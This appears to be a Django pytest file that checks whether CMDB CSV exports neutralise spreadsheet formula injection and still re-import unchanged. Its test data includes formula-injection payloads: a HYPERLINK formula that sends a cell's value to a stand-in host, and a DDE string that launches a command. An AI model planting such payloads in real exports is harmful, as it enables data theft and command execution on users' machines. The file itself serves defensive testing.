"""CMDB exports are safe to open in a spreadsheet (issue 12, item 9) and still import back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from apps.cmdb.models import ConfigurationItem

from .conftest import make_item

pytestmark = pytest.mark.django_db

EVIL = {
    '=HYPERLINK("http://evil.example/"&A1,"x")': "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)": "-2",
    "'=already quoted": "=1+1",
}


def test_csv_export_neutralises_formulas_and_imports_back(world, api):
    for name, description in EVIL.items():
        make_item(world.acme, name, description=description)
    api.as_user(world.user("developer"))
    for exported in (
        api.get(reverse("cmdb-item-export"), {"as": "csv"}),
        api.get(reverse("cmdb:export", kwargs={"tenant_slug": "acme"}), {"as": "csv"}),
    ):
        assert exported.status_code == 200
        rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
        assert {row["name"] for row in rows} >= {"'" + name for name in EVIL}
        assert {row["description"] for row in rows} >= {"'" + text for text in EVIL.values()}
        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())

    upload = SimpleUploadedFile("items.csv", exported.content)
    response = api.post(reverse("cmdb-item-import"), {"tenant": "acme", "file": upload}, format="multipart")
    assert response.status_code == 200, response.content
    assert {line["action"] for line in response.json()["rows"]} == {"unchanged"}
    assert set(
        ConfigurationItem.objects.filter(tenant=world.acme, name__in=EVIL).values_list("name", "description")
    ) == set(EVIL.items())
